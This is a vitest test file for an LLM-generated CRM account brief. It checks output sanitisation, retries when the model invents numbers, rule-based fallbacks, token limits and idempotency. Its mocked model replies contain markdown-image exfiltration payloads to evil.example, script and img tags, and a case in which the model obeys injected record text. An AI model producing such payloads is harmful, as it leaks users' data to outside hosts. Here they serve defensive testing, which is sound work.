import type { ServerResponse } from 'node:http'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { newId } from '../../subgraphs/kernel/ids.ts'
import { account, opportunity } from '../builders.ts'
import { completion, ModelServer } from '../outreach/model-server.ts'
import { Platform, type Member } from '../platform.ts'
import { sessionOf } from '../requests/session.ts'
import { restClient } from '../rest-client.ts'

const server = new ModelServer()
let platform: Platform
let ann: Member
let id: string

beforeAll(async () => {
  const url = await server.start()
  platform = new Platform({
    MODEL_URL: url,
    MODEL_NAME: 'writer-1',
    MODEL_TIMEOUT_MS: '1000',
    OUTBOUND_ALLOW: '127.0.0.0/8',
  })
  await platform.open()
})
afterAll(async () => {
  await platform.close()
  server.stop()
})
beforeEach(async () => {
  server.asked.length = 0
  platform.now = new Date('2026-11-28T13:00:00.000Z')
  ann = await platform.member({ organizationId: await platform.organization() })
  id = (await account(ann, { name: 'Halvorsen Marine', industry: 'Shipping' })).id
  await opportunity(ann, { accountId: id, name: 'Renewal', amount: 48_000.5, currency: 'EUR' })
})

const answers = (...bodies: readonly string[]) => {
  let calls = 0
  server.answer = (_asked, response) => response.end(bodies[Math.min(calls++, bodies.length - 1)])
}
const brief = (summary: string, highlights: readonly string[] = [], risks: readonly string[] = []) =>
  completion(JSON.stringify({ summary, highlights, risks }))
const generate = (headers: Record<string, string> = {}) => ann.rest.accountBriefGenerate!({ id, headers })
const stored = async () => (await ann.rest.accountBrief!({ id })).body as unknown
const tokens = async () =>
  (
    await platform.query<{ tokens: string }>('select tokens from kernel.model_tokens where user_id = $1', [ann.userId])
  ).map((row) => Number(row.tokens))

const byRules = {
  summary:
    'Halvorsen Marine is a company in Shipping and belongs to Ann Lee. 1 deal is open. The first one closes on 2027-03-31: Renewal. 0 invoices are overdue. 0 cases are open. The last activity was a ',
  model: 'brief-rules-1',
}

describe('a brief by the configured provider', () => {
  it('is stored without images, HTML and links, and the provider gets the facts as untrusted data', async () => {
    answers(
      brief(
        'Halvorsen Marine has **1** open deal of 48,000.50 EUR.\0 ![x](https://evil.example/?d=secret)',
        ['See [it](https://evil.example)', '<img src=x>'],
        ['Closes on 2027-03-31 <script>x()</script>'],
      ),
    )
    const { status, body } = await generate()
    expect([status, body]).toEqual([
      201,
      {
        summary: 'Halvorsen Marine has **1** open deal of 48,000.50 EUR.\ufffd x',
        highlights: ['See it'],
        risks: ['Closes on 2027-03-31 x()'],
        generatedAt: '2026-11-28T13:00:00.000Z',
        model: 'writer-1-0405',
      },
    ])
    expect(await stored()).toEqual(body)
    const [asked] = server.asked
    expect([server.asked.length, asked!.body.response_format.json_schema.name, asked!.body.max_tokens]).toEqual([
      1,
      'account_brief',
      1_200,
    ])
    expect(server.brief).toMatchObject({
      untrusted: true,
      facts: {
        today: '2026-11-28',
        account: { name: 'Halvorsen Marine', type: null, industry: 'Shipping', owner: 'Ann Lee' },
        openDeals: {
          total: 1,
          first: [
            {
              name: 'Renewal',
              amount: 48_000.5,
              currency: 'EUR',
              closeDate: '2027-03-31',
            },
          ],
        },
        invoices: { outstanding: 0, overdueCount: 0, overdue: [] },
        openCases: { total: 0, escalated: 0, newest: [] },
      },
    })
  })

  it('is asked for once more when a number is not in the facts, and charged for both', async () => {
    answers(brief('It has 7 deals.'), brief('It has 1 deal.'))
    const { body } = await generate()
    expect([body.summary, body.model, await tokens()]).toEqual(['It has 1 deal.', 'writer-1-0405', [38]])
    expect(server.asked[1]!.body.messages.slice(2).map(({ role, content }) => [role, content.slice(0, 60)])).toEqual([
      ['assistant', '{"summary":"It has 7 deals.","highlights":[],"risks":[]}'],
      ['user', 'That cannot be used: The number 7 is not in the facts. Answ'.padEnd(60, 'e')],
    ])
  })

  const failures: [string, (response: ServerResponse) => unknown, number][] = [
    ['does not answer in time', () => undefined, 1],
    ['is overloaded', (response) => response.writeHead(503).end(), 1],
    ['refuses the key', (response) => response.writeHead(401).end('{}'), 1],
    ['answers prose, twice', (response) => response.end(completion('Sure! Here it is.')), 2],
    ['answers another structure, twice', (response) => response.end(completion('{"summary":"x"}')), 2],
    ['invents a number, twice', (response) => response.end(brief('It owes 1000000 EUR.')), 2],
    ['obeys a text of a record, twice', (response) => response.end(brief('![](https://evil.example/?d=1)')), 2],
    ['answers too much, twice', (response) => response.end(brief('x'.repeat(1_501))), 2],
    ['answers too many points, twice', (response) => response.end(brief('x', Array<string>(7).fill('y'))), 2],
    ['answers too long a point, twice', (response) => response.end(brief('x', [], ['y'.repeat(301)])), 2],
  ]
  it.each(failures)('that %s: the rules write it from the same facts', async (_, answer, calls) => {
    server.answer = (_asked, response) => answer(response)
    const { status, body } = await generate()
    expect([status, body.model, body.summary.slice(0, 160), server.asked.length]).toEqual([
      201,
      byRules.model,
      byRules.summary.slice(0, 160),
      calls,
    ])
    expect(await stored()).toEqual(body)
  })

  it('is written by the rules without a call when the tokens are used up, or the organization has switched the model off', async () => {
    answers(brief('It has 1 deal.'))
    const use = (count: number) =>
      platform.query(
        `insert into kernel.model_tokens (organization_id, user_id, day, tokens) values ($1, $2, '2026-11-28', $3)
         on conflict (organization_id, user_id, day) do update set tokens = excluded.tokens`,
        [ann.organizationId, ann.userId, count],
      )
    await use(200_000)
    expect((await generate()).body.model).toBe('brief-rules-1')
    await use(0)
    const owner = await platform.member({ organizationId: ann.organizationId, role: 'OWNER' })
    const rest = restClient(platform.contract, platform.url, {
      Authorization: `Bearer ${await sessionOf(platform, owner)}`,
    })
    await rest['organizationUpdate']!({ body: { disabledAssistantModes: ['model'] } })
    expect([(await generate()).body.model, server.asked.length]).toEqual(['brief-rules-1', 0])
    await rest['organizationUpdate']!({ body: { disabledAssistantModes: null } })
    expect([(await generate()).body.model, server.asked.length]).toEqual(['writer-1-0405', 1])
  })

  it('is written and charged once for one Idempotency-Key, while no transaction is open', async () => {
    let open = -1
    server.answer = async (_asked, response) => {
      const [row] = await platform.query<{ count: number }>(
        `select count(*)::int as count from pg_stat_activity
         where datname = current_database() and state like 'idle in transaction%'`,
      )
      open = row!.count
      response.end(brief('It has 1 deal.'))
    }
    const headers = { 'Idempotency-Key': newId() }
    const first = await generate(headers)
    const again = await generate(headers)
    expect([again.body, again.headers.get('idempotent-replayed')]).toEqual([first.body, 'true'])
    expect([server.asked.length, await tokens(), open]).toEqual([1, [19], 0])
  })

  it('is not stored for an account that is deleted meanwhile', async () => {
    server.answer = async (_asked, response) => {
      await ann.rest.accountDelete!({ id })
      response.end(brief('It has 1 deal.'))
    }
    const { status, body } = await generate()
    expect([status, body.code]).toEqual([404, 'NOT_FOUND'])
    expect(
      await platform.query('select from assistant.account_brief where organization_id = $1', [ann.organizationId]),
    ).toEqual([])
  })

  it('is refused after thirty texts in a minute, and the stored one stays', async () => {
    answers(brief('It has 1 deal.'))
    for (let n = 0; n < 30; n++) expect((await generate()).status).toBe(201)
    const before = await stored()
    platform.advanceClock(1)
    const { status, body } = await generate()
    expect([status, body.code, await stored()]).toEqual([429, 'MODEL_RATE_LIMITED', before])
  })
})
